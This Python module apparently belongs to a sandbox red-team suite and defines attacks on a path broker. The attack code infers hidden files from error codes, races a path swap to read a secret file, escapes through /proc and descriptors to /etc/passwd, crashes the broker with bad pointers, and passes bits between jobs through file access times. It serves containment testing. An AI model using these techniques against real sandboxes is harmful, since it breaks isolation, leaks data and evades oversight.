"""Attacks on the path broker: races, invalid pointers, indirect paths."""

from functools import partial

from evocodec.sandbox.redteam.attack import HIDING_LAYERS, Theme
from evocodec.sandbox.redteam.checks import HIDING, blames_the_candidate
from evocodec.sandbox.redteam.programs import attempt

_attack = partial(attempt, Theme.FILES)
_hidden = partial(attempt, Theme.FILES, layer=HIDING, documented_without=HIDING_LAYERS)

# What a call says: its error, or that there was none.
_CODE = """
        def code(*arguments):
            try: call(*arguments)
            except OSError as error: return error.errno
            return 0
"""

ATTACKS = (
    _hidden(
        "existence-by-errors",
        "tell by the error of any call whether a file or folder outside exists",
        _CODE
        + """
        room, how = ctypes.create_string_buffer(512), (ctypes.c_uint64 * 3)()
        def answers(path):
            ways = [((257, 56), -100, path, flags, 0)
                    for flags in (0, os.O_PATH, os.O_DIRECTORY, os.O_NOFOLLOW, os.O_NONBLOCK)]
            ways += [((262, 79), -100, path, room, flags) for flags in (0, 0x100, 0x1000)]
            ways += [((269, 48), -100, path, 0), ((439, 439), -100, path, 0, 0),
                     ((267, 78), -100, path, room, 99), ((332, 291), -100, path, 0, 4095, room),
                     ((437, 437), -100, path, how, 24), ((59, 221), path, 0, 0),
                     ((254, 27), 3, path, 4095), ((137, 43), path, room),
                     ((191, 8), path, b"user.x", room, 9), ((80, 49), path, 0, 0)]
            return [code(*way) for way in ways]
        for name in ("@SECRET_FILE@", "@OPEN_FOLDER@", "/etc/passwd", "/boot", "/proc/self/fd/3"):
            there, missing = answers(name.encode()), answers(name.encode() + b"~")
            if there != missing:
                return f"{name}: {there} and not {missing}"
        """,
    ),
    _hidden(
        "existence-by-detour",
        "tell whether a folder outside exists by leading a path through it and back",
        """
        known = os.path.dirname(os.__file__)
        there = os.path.dirname("@SECRET_FILE@")
        def leads_back(folder):
            return os.path.exists(folder + "/.." * 20 + known)
        if leads_back(there) != leads_back(there + "~"):
            return f"{there} exists"
        if leads_back(there) or os.path.exists(f"{known}/../../../../../..{there}"):
            return f"a way through {there}"
        """,
    ),
    _hidden(
        "swap-the-path",
        "have one path checked and another one used, by changing it in a second thread",
        """
        import threading
        good, bad = os.__file__.encode(), b"@SECRET_FILE@"
        path, room = ctypes.create_string_buffer(4096), ctypes.create_string_buffer(512)
        texts = [ctypes.create_string_buffer(text) for text in (good, bad)]
        done = time.monotonic() + 1.5
        def flip():
            while time.monotonic() < done:
                for text in texts: libc.memcpy(path, text, len(text))
        def look():
            size = os.stat(good).st_size.to_bytes(8, "little")
            while time.monotonic() < done:
                try:
                    call((262, 79), -100, path, room, 0)
                    if room.raw[48:56] != size: return "the status of another file"
                    fd = call((257, 56), -100, path, 0, 0)
                except OSError:
                    continue
                head = os.read(fd, 4096)
                os.close(fd)
                if head != beginning: return Loot(head)
        with open(good, "rb") as file: beginning = file.read(4096)
        thread = threading.Thread(target=flip)
        thread.start()
        found = look()
        thread.join()
        return found
        """,
    ),
    _hidden(
        "relative-to-descriptors",
        "leave the view by a path relative to a folder, a pipe, an unused number, or /proc",
        """
        base = os.path.dirname(os.path.dirname(os.__file__)).encode()
        up = b"../" * 20 + b"etc/passwd"
        folder = os.open(os.path.dirname(os.__file__) + "/encodings", os.O_RDONLY)
        def relative(fd, path=up): return f"opened {call((257, 56), fd, path, 0, 0)} by {fd}"
        names = [b"/proc/self/root/etc/passwd", b"/proc/thread-self/cwd/etc/passwd", b"/dev/fd/3",
                 b"/proc/self/fd/%d/../../../etc/passwd" % folder, base + b"/" + up]
        return first(lambda: each(relative, (folder, 3, 0, 40, -100, -1)),
                     lambda: each(lambda name: relative(-100, name), names))
        """,
    ),
    _attack(
        "odd-pointers",
        "bring down, by unreadable addresses and endless names, whoever answers for its paths",
        """
        import mmap
        page = mmap.PAGESIZE
        area = mmap.mmap(-1, 2 * page, flags=mmap.MAP_PRIVATE)
        start = ctypes.addressof(ctypes.c_char.from_buffer(area))
        libc.mprotect(ctypes.c_void_p(start + page), page, 0)
        room = ctypes.create_string_buffer(512)
        area[page - 4 : page] = b"/etc"
        ctypes.memset(start, 47, 64)
        odd = [0, 1, start + page - 4, start + page, start, (1 << 47) - 1, 1 << 62, 1 << 63, -1]
        names = [b"", b"/" * 4095, b"/" * 9000, b"/." * 2000, b"/.." * 1300, b"/usr/.." * 500,
                 os.__file__.encode() + b"/" * 2000, b"\\xff" * 300, b"/usr/" + b"x" * 300]
        def ask(path, buffer=room, fd=-100, flags=0):
            for numbers, last in (((262, 79), buffer), ((257, 56), 0), ((267, 78), buffer)):
                try: call(numbers, fd, path, last, flags)
                except OSError: pass
        for one in (*odd, *names):
            for fd in (-100, 3, 1 << 31, -1 << 40):
                ask(one, fd=fd, flags=-1)
                ask(one, fd=fd)
        for one in odd:
            ask(os.__file__.encode(), one)
        if not os.path.exists(os.__file__):
            raise RuntimeError("nobody answers any more")
        """,
        layer=HIDING,
        check=blames_the_candidate(HIDING),
    ),
    _hidden(
        "access-times-of-open-files",
        "hand bits to its decoder in the times at which files were last read, by their descriptors",
        """
        bits = bytes.fromhex(TOKEN)[0] & 0x7F | 1
        wanted = [bits >> index & 1 for index in range(8)]
        base = os.path.dirname(os.__file__) + "/encodings"
        names = [f"{base}/iso8859_{number}.py" for number in range(1, 9)]
        recent = time.time_ns() - 5_000_000_000
        def seen(name):
            fd = os.open(name, os.O_RDONLY)
            moment = os.fstat(fd).st_atime_ns
            os.close(fd)
            return int(moment > recent)
        if [seen(name) for name in names] == wanted:
            return f"the job before sent {wanted}"
        for name, bit in zip(names, wanted):
            if bit:
                with open(name, "rb") as file: file.read()
        """,
        steps=("encode", "encode"),
    ),
)
